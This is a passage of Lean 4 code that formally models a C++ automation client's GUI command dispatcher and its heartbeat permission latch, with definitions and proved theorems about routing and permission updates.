    ShellTools.startSession (fun _ => true) true "/opt/myshell" "/tmp" =
      .spawned "/opt/myshell" "/tmp" := by
  constructor
  · exact (shell_filter_amended (fun _ => true) "ls" "/tmp" (fun _ => true) true).2.1 rfl
  · have h := (shell_filter_amended (fun _ => true) "/opt/myshell" "/tmp"
      (fun _ => true) true).2.2 rfl
    rw [h]
    simp [resolveShell]

/-! ## Command dispatcher

Embedding of CommandDispatcher::dispatch (command_dispatcher.cpp lines 133
to 154): the method is first matched against the fixed GUI_METHODS list
(lines 29 to 121, transcribed verbatim below); a match is forwarded to the
registered GUI proxy callback, or answered with the unavailability error
when none is registered, and only non-GUI methods reach the local routing
chain, abstracted here as the localRouted outcome. -/

def GUI_METHODS : List String :=
  ["screenshot", "screenshot_app", "screenshot_grid", "desktop_screenshot",
   "click", "click_absolute", "click_relative", "click_grid", "mouse_click",
   "doubleClick", "clickElement", "moveMouse", "mouse_move", "scroll",
   "scrollMouse", "mouse_scroll", "drag", "mouse_drag", "typeText",
   "keyboard_type", "pressKey", "keyboard_press", "keyboard_shortcut",
   "getClickableElements", "getUIElements", "getMousePosition", "analyzeWithOCR",
   "listApplications", "focusApplication", "launchApplication", "app_launch",
   "closeApp", "app_quit", "window_list", "window_focus", "window_move",
   "window_resize", "checkPermissions", "wait",
   "browser_listConnected", "browser_setDefaultBrowser", "browser_getTabs",
   "browser_getActiveTab", "browser_focusTab", "browser_createTab",
   "browser_closeTab", "browser_getPageInfo", "browser_inspectCurrentPage",
   "browser_getInteractiveElements", "browser_getPageContext",
   "browser_clickElement", "browser_fillElement", "browser_fillFormField",
   "browser_fillWithFallback", "browser_fillFormNative", "browser_scrollTo",
   "browser_executeScript", "browser_getFormData", "browser_setWatchMode",
   "browser_getVisibleText", "browser_searchVisibleText", "browser_getUIElements",
   "browser_waitForSelector", "browser_waitForPageLoad", "browser_selectOption",
   "browser_isElementVisible", "browser_getConsoleLogs",
   "browser_getNetworkRequests", "browser_getLocalStorage", "browser_getCookies",
   "browser_clickByText", "browser_clickMultiple", "browser_getFormStructure",
   "browser_answerQuestions", "browser_getDropdownOptions",
   "browser_openDropdownNative", "browser_listInteractiveElements",
   "browser_clickElementWithDebug", "browser_findElementWithDebug",
   "browser_findTabByUrl", "browser_navigate", "browser_screenshot",
   "browser_go_back", "browser_go_forward", "browser_get_visible_html",
   "browser_hover", "browser_drag", "browser_press_key", "browser_upload_file",
   "browser_save_as_pdf"]

inductive DispatchOutcome (P R : Type) where
  | guiResult (result : R)
  | guiUnavailable (message : String)
  | localRouted (method : String) (params : P)

def dispatch {P R : Type} (guiProxy : Option (String → P → R))
    (method : String) (params : P) : DispatchOutcome P R :=
  if method ∈ GUI_METHODS then
    match guiProxy with
    | some f => .guiResult (f method params)
    | none => .guiUnavailable "GUI operations unavailable - tray app not connected"
  else .localRouted method params

/-- Claim C7: for every method in the GUI-capability set, dispatch forwards
the call verbatim to the registered GUI proxy callback, and with no proxy
registered it returns the error GUI operations unavailable - tray app not
connected without reaching any local handler (the result is the error
outcome for every possible local routing). -/
theorem gui_dispatch {P R : Type} (method : String) (params : P)
    (h : method ∈ GUI_METHODS) :
    (∀ f : String → P → R, dispatch (some f) method params = .guiResult (f method params)) ∧
    dispatch (none : Option (String → P → R)) method params =
      .guiUnavailable "GUI operations unavailable - tray app not connected" := by
  constructor
  · intro f
    simp [dispatch, h]
  · simp [dispatch, h]

/-- Witness for claim C7 at the screenshot method. -/
theorem gui_dispatch_witness :
    dispatch (some (fun _ _ => 42)) "screenshot" (0 : Nat) =
      DispatchOutcome.guiResult (P := Nat) 42 ∧
    dispatch (none : Option (String → Nat → Nat)) "screenshot" 0 =
      .guiUnavailable "GUI operations unavailable - tray app not connected" :=
  ⟨(gui_dispatch "screenshot" 0 (by decide)).1 (fun _ _ => 42),
   (gui_dispatch "screenshot" 0 (by decide)).2⟩

/-! ## Permission latch

Embedding of the permissions block of WebSocketClient::handleHeartbeatAck
(websocket_client.cpp lines 931 to 958): when the ack carries a permissions
object, the three booleans are read with default false and compared with the
stored ones; if any differs, all three are stored and the permissions
callback is invoked once; otherwise nothing is stored or emitted. -/

structure Permissions where
  masterMode : Bool
  fileTransfer : Bool
  localSettingsLocked : Bool
deriving DecidableEq

structure AckPermissions where
  masterMode : Option Bool
  fileTransfer : Option Bool
  localSettingsLocked : Option Bool
deriving DecidableEq

def handleHeartbeatAck (s : Permissions) (ack : Option AckPermissions) : Permissions × Nat :=
  match ack with
  | none => (s, 0)
  | some p =>
    let m := p.masterMode.getD false
    let f := p.fileTransfer.getD false
    let l := p.localSettingsLocked.getD false
    if m ≠ s.masterMode ∨ f ≠ s.fileTransfer ∨ l ≠ s.localSettingsLocked then
      (⟨m, f, l⟩, 1)
    else (s, 0)

/-- Claim C8: on an ack with a permissions object the three booleans are
latched; the notification callback runs exactly once iff at least one of the
three differs from the stored values, and not at all when all three are
identical; an ack without a permissions object changes nothing. -/
theorem permissions_latch (s : Permissions) (p : AckPermissions) :
    (handleHeartbeatAck s (some p)).1 =
      ⟨p.masterMode.getD false, p.fileTransfer.getD false,
       p.localSettingsLocked.getD false⟩ ∧
    ((handleHeartbeatAck s (some p)).2 = 1 ↔
      (⟨p.masterMode.getD false, p.fileTransfer.getD false,
        p.localSettingsLocked.getD false⟩ : Permissions) ≠ s) ∧
    ((handleHeartbeatAck s (some p)).2 = 0 ↔
      (⟨p.masterMode.getD false, p.fileTransfer.getD false,
        p.localSettingsLocked.getD false⟩ : Permissions) = s) ∧
    handleHeartbeatAck s none = (s, 0) := by
  have hne : ((⟨p.masterMode.getD false, p.fileTransfer.getD false,
      p.localSettingsLocked.getD false⟩ : Permissions) ≠ s) ↔
      (p.masterMode.getD false ≠ s.masterMode ∨ p.fileTransfer.getD false ≠ s.fileTransfer ∨
       p.localSettingsLocked.getD false ≠ s.localSettingsLocked) := by
    constructor
    · intro h
      by_contra hc
      push_neg at hc
      exact h (by cases s; simp_all)
    · intro h hc
      cases s
      simp only [Permissions.mk.injEq] at hc
      rcases h with h | h | h <;> simp_all
  by_cases hcond : p.masterMode.getD false ≠ s.masterMode ∨
      p.fileTransfer.getD false ≠ s.fileTransfer ∨
      p.localSettingsLocked.getD false ≠ s.localSettingsLocked
  · refine ⟨?_, ?_, ?_, rfl⟩
    · simp [handleHeartbeatAck, hcond]
    · simp only [handleHeartbeatAck, if_pos hcond]
      simpa using hne.mpr hcond
    · simp only [handleHeartbeatAck, if_pos hcond]
      constructor
      · intro h
        exact absurd h (by norm_num)
      · intro h
        exact absurd (hne.mpr hcond) (fun hh => hh h)
  · have heq : (⟨p.masterMode.getD false, p.fileTransfer.getD false,
        p.localSettingsLocked.getD false⟩ : Permissions) = s := by
      by_contra hc
      exact hcond (hne.mp hc)
    refine ⟨?_, ?_, ?_, rfl⟩
    · simp only [handleHeartbeatAck, if_neg hcond]
      exact heq.symm
    · simp only [handleHeartbeatAck, if_neg hcond]
      constructor
      · intro h
        exact absurd h (by norm_num)
      · intro h
        exact absurd heq h
    · simp only [handleHeartbeatAck, if_neg hcond]
      simp [heq]
